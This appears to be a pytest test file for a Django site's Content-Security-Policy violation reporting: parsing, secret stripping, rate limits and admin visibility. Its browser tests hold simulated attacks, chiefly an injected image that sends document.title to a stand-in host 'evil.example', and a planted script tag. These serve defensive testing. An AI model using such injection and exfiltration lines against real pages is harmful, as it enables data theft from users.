"""What browsers report of the content policy: counted without what a secret could stand in, and shown to admins."""

import json
import logging
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
from django.conf import settings
from django.db import DatabaseError, connection
from django.test import Client
from django.utils import timezone
from playwright.sync_api import Browser, Route
from pytest_django.fixtures import Settings
from pytest_django.live_server_helper import LiveServer

from accounts import rates, violations
from accounts.models import Violation
from orchestrator_site import edge
from orchestrator_site.build import build_assets
from orchestrator_site.management.commands import doctor
from tests.conftest import bound, wait_for
from tests.people import Team, a_team, acting, signed_in_as
from tests.pipelines.builders import a_pipeline, a_writer
from tests.web_role import as_the_web

TO, PAGE = "/csp-reports", "/violations/"
SITE = "https://baton.example"
CANARY = "c4nary-8d1f"
SINGLE, LISTED = "application/csp-report", "application/reports+json"
RUN = "01900000-0000-7000-8000-000000000000"


@pytest.fixture
def team(db: None) -> Team:
    return a_team()


@pytest.fixture(autouse=True)
def _counts_of_its_own(monkeypatch: pytest.MonkeyPatch) -> None:
    """Leave what other tests reported within this minute out."""
    monkeypatch.setattr(rates, "_shared", rates._Own())


def single(**said: Any) -> dict[str, Any]:
    told = {
        "document-uri": f"{SITE}/runs/{RUN}/",
        "effective-directive": "img-src",
        "blocked-uri": "https://evil.example/x",
    }
    return {"csp-report": {**told, **said}}


def listed(**said: Any) -> dict[str, Any]:
    told = {
        "documentURL": f"{SITE}/runs/{RUN}/",
        "effectiveDirective": "img-src",
        "blockedURL": "https://evil.example/x",
    }
    return {"type": "csp-violation", "age": 10, "url": f"{SITE}/", "user_agent": "x", "body": {**told, **said}}


def sent(body: Any, kind: str = SINGLE, client: Client | None = None) -> Any:
    said = body if isinstance(body, bytes) else json.dumps(body).encode()
    return (client or Client(enforce_csrf_checks=True)).post(TO, said, content_type=kind)


def kept() -> list[tuple[str, str, str, str, int]]:
    rows = Violation.objects.order_by("pk")
    return [(one.directive, one.page, one.blocked, one.source, one.count) for one in rows]


# What is kept of a report


@pytest.mark.django_db
@pytest.mark.parametrize(("body", "kind"), [(single(), SINGLE), ([listed(), listed()], LISTED), (listed(), LISTED)])
def test_both_formats_of_browsers_are_counted_without_a_session(body: Any, kind: str) -> None:
    assert sent(body, kind).status_code == 204
    assert sent(body, f"{kind}; charset=utf-8").status_code == 204
    [(directive, page, blocked, source, count)] = kept()
    assert (directive, page, blocked, source) == ("img-src", "/runs/<uuid:run_id>/", "https://evil.example", "")
    assert count == (4 if isinstance(body, list) else 2)
    [row] = Violation.objects.all()
    assert row.workspace is None
    assert row.first_at < row.last_at


SAID = [
    ({"blocked-uri": "inline", "source-file": f"{SITE}/runs/{RUN}/?q=1"}, ("inline", "/runs/<uuid:run_id>/")),
    (
        {"blocked-uri": f"{SITE}/x?y", "source-file": f"{SITE}/static/dist/app.js?v=1"},
        ("this site", "/static/dist/app.js"),
    ),
    ({"blocked-uri": "data", "source-file": "chrome-extension://abc/x.js"}, ("data:", "chrome-extension:")),
    (
        {"blocked-uri": "wss://Evil.example:8443/x", "source-file": "https://cdn.example/a.js"},
        ("wss://evil.example:8443", "https://cdn.example"),
    ),
    ({"blocked-uri": f"https://me:{CANARY}@evil.example/{CANARY}"}, ("https://evil.example", "")),
    ({"blocked-uri": "https://evil.example:port/"}, ("other", "")),
    ({"blocked-uri": "http://[::1"}, ("other", "")),
    ({"blocked-uri": 7, "source-file": ["x"]}, ("other", "other")),
    ({"blocked-uri": "x" * 5_000, "source-file": None}, ("other", "")),
    ({"blocked-uri": "https://e\u202evil.example\n/"}, ("https://evil.example", "")),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("said", "expected"), SAID)
def test_of_an_address_only_the_origin_is_kept_and_of_ours_the_pattern(
    said: dict[str, Any], expected: tuple[str, str]
) -> None:
    assert sent(single(**said)).status_code == 204
    [(_, _, blocked, source, _)] = kept()
    assert (blocked, source) == expected


@pytest.mark.django_db
def test_nothing_that_lets_somebody_in_is_kept_or_written_to_the_log(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    link = f"{SITE}/password/new/{RUN}/{CANARY}/?next={CANARY}#{CANARY}"
    everywhere = {"referrer": link, "script-sample": CANARY, "original-policy": CANARY, "source-file": link}
    assert sent(single(**{"document-uri": link, "blocked-uri": link, **everywhere})).status_code == 204
    assert sent(single(**{"effective-directive": CANARY, "violated-directive": CANARY})).status_code == 204
    assert sent(b'{"csp-report": ' + CANARY.encode()).status_code == 400
    assert kept()[0] == ("img-src", "/password/new/<uuid:user_id>/<str:token>/", "this site", kept()[0][1], 1)
    assert kept()[1][0] == "other"
    assert CANARY not in f"{kept()} {caplog.text}"


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("body", "kind", "status", "code"),
    [
        (single(), "application/json", 415, "not_a_report"),
        (single(), "text/plain", 415, "not_a_report"),
        (b" ", SINGLE, 400, "bad_json"),
        (b"\xff", LISTED, 400, "bad_json"),
        (b"[" * 60_000, LISTED, 422, "too_deep"),
        (b'{"csp-report": {"document-uri": "\\u0000"}}', SINGLE, 422, "bad_text"),
    ],
)
def test_what_is_no_report_is_refused_by_name_and_counted_nowhere(body: Any, kind: str, status: int, code: str) -> None:
    answer = sent(body, kind)
    assert (answer.status_code, answer.json()["code"]) == (status, code)
    assert kept() == []
    assert Client().get(TO).status_code == 405
    assert Client().post(TO, {"csp-report": "x"}).status_code == 415, "a form's body is read before it is refused"


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("body", "kind"),
    [
        ([], SINGLE),
        ({"csp-report": "x"}, SINGLE),
        (7, LISTED),
        ([7, None, {"type": "deprecation", "body": {}}], LISTED),
    ],
)
def test_reports_of_anything_else_are_taken_and_left_out(body: Any, kind: str) -> None:
    assert sent(body, kind).status_code == 204
    assert kept() == []


# How much


def test_a_report_is_small() -> None:
    assert edge.limit_for(TO) == 64 * 1024
    assert b"64 KB" in edge.too_large(edge.limit_for(TO))


@pytest.mark.django_db
def test_a_client_that_reports_without_end_is_told_to_wait_and_others_are_not(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(violations, "MOST_OF_A_CLIENT", 3)
    assert [sent(single()).status_code for _ in range(4)] == [204, 204, 204, 429]
    refused = sent(single())
    assert refused.json()["code"] == "too_many_reports"
    assert 1 <= int(refused["Retry-After"]) <= 60
    assert sent(single(), client=Client(REMOTE_ADDR="198.51.100.7")).status_code == 204
    monkeypatch.setattr(violations, "MOST_IN_ALL", 4)
    assert sent(single(), client=Client(REMOTE_ADDR="198.51.100.8")).status_code == 429
    assert sum(count for *_, count in kept()) == 4


@pytest.mark.django_db
def test_rows_are_bounded_and_what_is_new_beyond_them_is_counted_in_one(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(violations, "MOST", 3)
    for number in range(6):
        sent([listed(blockedURL=f"https://{number}-{part}.example/") for part in range(2)], LISTED)
    sent([listed(blockedURL="https://0-0.example/") for _ in range(500)], LISTED)
    found = kept()
    assert [blocked for *_, blocked, _, _ in found] == [
        "https://0-0.example", "https://0-1.example", "https://1-0.example", "other",
    ]  # fmt: skip
    assert [count for *_, count in found] == [1 + 20, 1, 1, 9]


@pytest.mark.django_db
def test_what_nobody_reports_any_more_is_forgotten() -> None:
    sent(single())
    sent(single(**{"blocked-uri": "https://old.example/"}))
    Violation.objects.filter(blocked="https://old.example").update(last_at=timezone.now() - timedelta(days=31))
    violations.sweep()
    assert [blocked for _, _, blocked, _, _ in kept()] == ["https://evil.example"]


@pytest.mark.django_db
def test_a_database_that_does_not_take_it_breaks_nothing(caplog: pytest.LogCaptureFixture) -> None:
    def full(execute: Callable[..., Any], sql: str, *rest: Any) -> Any:
        if "accounts_violation" in sql:
            raise DatabaseError(f"no room for {CANARY}")
        return execute(sql, *rest)

    with connection.execute_wrapper(full):
        assert sent(single()).status_code == 204
    assert "lost" in caplog.text
    assert CANARY not in caplog.text


# Who sees them


@pytest.mark.django_db
def test_an_admin_sees_their_workspaces_and_those_without_a_session_and_nobody_else_any(team: Team) -> None:
    with as_the_web():
        assert sent(single(), client=signed_in_as(team.alice)).status_code == 204
        theirs = single(**{"blocked-uri": "https://theirs.example/"})
        assert sent(theirs, client=signed_in_as(team.charlie)).status_code == 204
        assert sent(single(**{"blocked-uri": "https://nobodys.example/"})).status_code == 204
        dana = signed_in_as(team.dana)
        page = dana.get(PAGE).content.decode()
        others = [signed_in_as(one).get(PAGE).status_code for one in (team.alice, team.bob, team.carol, team.erin)]
    assert "https://evil.example" in page
    assert "https://nobodys.example" in page
    assert "https://theirs.example" not in page
    assert "/runs/&lt;uuid:run_id&gt;/" in page
    assert others == [403] * 4
    assert f'href="{PAGE}"' in dana.get("/").content.decode()
    assert f'href="{PAGE}"' not in signed_in_as(team.erin).get("/").content.decode()


@pytest.mark.django_db
def test_a_person_who_owes_a_second_factor_is_heard_too(team: Team, settings: Settings) -> None:
    settings.SECOND_FACTOR = "required"
    assert sent(single(), client=signed_in_as(team.alice)).status_code == 204
    assert [row.workspace for row in Violation.objects.all()] == [None]


@pytest.mark.django_db
def test_the_doctor_says_what_browsers_reported_lately(team: Team) -> None:
    assert doctor._content_policy() == "no browser reported a violation within 7 days"
    sent(single(), client=signed_in_as(team.alice))
    sent(single(**{"effective-directive": "script-src-elem", "blocked-uri": "inline"}))
    said = doctor._content_policy()
    assert said.startswith("browsers reported 2 kinds of violations (2 in all) within 7 days")
    assert "the last: script-src-elem refused inline on /runs/<uuid:run_id>/" in said


# A real browser


def test_every_page_says_where_to_report(client: Client, db: None) -> None:
    for secure in (False, True):
        answer = client.get("/login/", secure=secure)
        policy = answer["Content-Security-Policy"].split("; ")
        assert "report-uri /csp-reports" in policy
        assert ("report-to content-policy" in policy) is secure, "a browser takes an endpoint over HTTPS alone"
        assert answer.get("Reporting-Endpoints") == ('content-policy="/csp-reports"' if secure else None)


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_a_browser_reports_what_a_page_tried(live_server: LiveServer, browser: Browser) -> None:
    team = a_team()
    context = browser.new_context()
    session = signed_in_as(team.alice).cookies[settings.SESSION_COOKIE_NAME].value
    context.add_cookies([{"name": settings.SESSION_COOKIE_NAME, "value": session, "url": live_server.url}])
    page = context.new_page()
    page.goto(f"{live_server.url}/people/")
    page.evaluate(
        "document.body.append(Object.assign(new Image(), {src: 'https://evil.example/?stolen=' + document.title}))"
    )
    wait_for(Violation.objects.exists, 90, lambda: str(kept()))
    [(directive, pattern, blocked, source, _)] = kept()
    assert (directive, pattern, blocked) == ("img-src", "/people/", "https://evil.example")
    assert source in ("", "/people/")
    assert Violation.objects.get().workspace == team.workspace
    context.close()


BEFORE = '<div class="sr" id="announce"'
PLANTED = '<script src="/static/dist/planted.js"></script>'


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_a_script_runs_by_the_pages_nonce_or_because_one_that_has_it_imports_it(
    live_server: LiveServer, browser: Browser
) -> None:
    """Where a file lies says nothing: markup that got into a page names one of our own in vain."""
    build_assets()
    team = a_team()
    a_writer(acting(team.alice))
    a_pipeline(acting(team.alice))
    context = browser.new_context()
    session = signed_in_as(team.alice).cookies[settings.SESSION_COOKIE_NAME].value
    context.add_cookies([{"name": settings.SESSION_COOKIE_NAME, "value": session, "url": live_server.url}])
    page = context.new_page()

    def plant(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace(BEFORE, PLANTED + BEFORE))

    page.route("**/pipelines/brief/", plant)
    page.route("**/planted.js", lambda route: route.fulfill(body="planted = 1", content_type="text/javascript"))
    page.goto(f"{live_server.url}/pipelines/brief/")
    bound(page)
    assert PLANTED in page.content()
    assert page.evaluate("typeof planted") == "undefined"
    loaded = page.evaluate("performance.getEntriesByType('resource').map((one) => new URL(one.name).pathname)")
    assert any(name.startswith("/static/dist/chunks/editor") for name in loaded), loaded
    wait_for(Violation.objects.exists, 90, lambda: str(kept()))
    [(directive, pattern, blocked, *_)] = kept()
    assert (directive, blocked) == ("script-src-elem", "this site")
    assert pattern.startswith("/pipelines/")
    context.close()
